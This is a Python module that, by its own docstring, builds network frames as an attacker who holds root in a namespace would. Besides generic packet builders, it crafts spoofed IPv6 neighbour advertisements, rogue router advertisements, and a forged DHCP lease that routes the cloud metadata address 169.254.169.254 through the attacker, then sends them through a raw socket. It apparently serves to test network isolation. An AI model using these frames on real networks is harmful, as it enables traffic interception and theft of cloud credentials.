"""Frames as an attacker makes them, who is root in a namespace of his own."""

import ipaddress
import os
import socket
import struct

BROADCAST = "ff:ff:ff:ff:ff:ff"
ETHERTYPE_ALL = 3


def mac(text):
    return bytes.fromhex(text.replace(":", ""))


def ethernet(to, source, kind, body):
    return mac(to) + mac(source) + struct.pack("!H", kind) + body


def arp(operation, mac_of_sender, sender, mac_of_target, target):
    return struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation) + mac(mac_of_sender) + packed(sender) + mac(mac_of_target) + packed(target)


def packed(address):
    return ipaddress.ip_address(address).packed


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ipv4(source, to, protocol, body):
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(body), int.from_bytes(os.urandom(2), "big"), 0, 64, protocol, 0)
    head += packed(source) + packed(to)
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + body


def pseudo(source, to, protocol, body):
    if ipaddress.ip_address(to).version == 4:
        return packed(source) + packed(to) + struct.pack("!BBH", 0, protocol, len(body))
    return packed(source) + packed(to) + struct.pack("!IHBB", len(body), 0, 0, protocol)


def tcp(source, source_port, to, port, sequence, acknowledged, flags, data=b""):
    head = struct.pack("!HHIIBBHHH", source_port, port, sequence, acknowledged, 5 << 4, flags, 64240, 0, 0)
    found = checksum(pseudo(source, to, 6, head + data) + head + data)
    return head[:16] + struct.pack("!H", found) + head[18:] + data


def udp(source, source_port, to, port, data):
    head = struct.pack("!HHHH", source_port, port, 8 + len(data), 0)
    return head[:6] + struct.pack("!H", checksum(pseudo(source, to, 17, head + data) + head + data)) + data


def ipv6(source, to, protocol, body, hops=255):
    return struct.pack("!IHBB", 6 << 28, len(body), protocol, hops) + packed(source) + packed(to) + body


def icmpv6(source, to, kind, body):
    head = struct.pack("!BBH", kind, 0, 0) + body
    found = checksum(pseudo(source, to, 58, head) + head)
    return head[:2] + struct.pack("!H", found) + head[4:]


def neighbour_advertisement(target, own):
    """Unsolicited, and overriding what is known (RFC 4861 section 4.4)."""
    return struct.pack("!I", 0x20000000) + packed(target) + b"\x02\x01" + mac(own)


def router_advertisement(own):
    """A router of high preference, with itself as the route to everything (RFC 4861 section 4.2, RFC 4191)."""
    head = struct.pack("!BBHII", 64, 0x08, 1800, 0, 0)
    return head + b"\x01\x01" + mac(own) + struct.pack("!BBBBI", 24, 1, 0, 0x08, 1800)


def dhcp_acknowledgement(client_mac, address, router):
    """A lease whose classless route (RFC 3442) leads to 169.254.169.254 by way of the attacker."""
    head = struct.pack("!BBBBIHH", 2, 1, 6, 0, int.from_bytes(os.urandom(4), "big"), 0, 0)
    head += b"\0" * 4 + packed(address) + packed(router) + b"\0" * 4 + mac(client_mac) + b"\0" * 10 + b"\0" * 192
    route = b"\x20" + packed("169.254.169.254") + packed(router)
    options = b"\x63\x82\x53\x63" + b"\x35\x01\x05" + b"\x36\x04" + packed(router) + b"\x33\x04" + struct.pack("!I", 3600)
    options += b"\x01\x04" + packed("255.255.255.0") + b"\x03\x04" + packed(router) + bytes([121, len(route)]) + route + b"\xff"
    return head + options


def wire(device):
    """A socket for whole frames on a device."""
    found = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETHERTYPE_ALL))
    found.bind((device, 0))
    return found
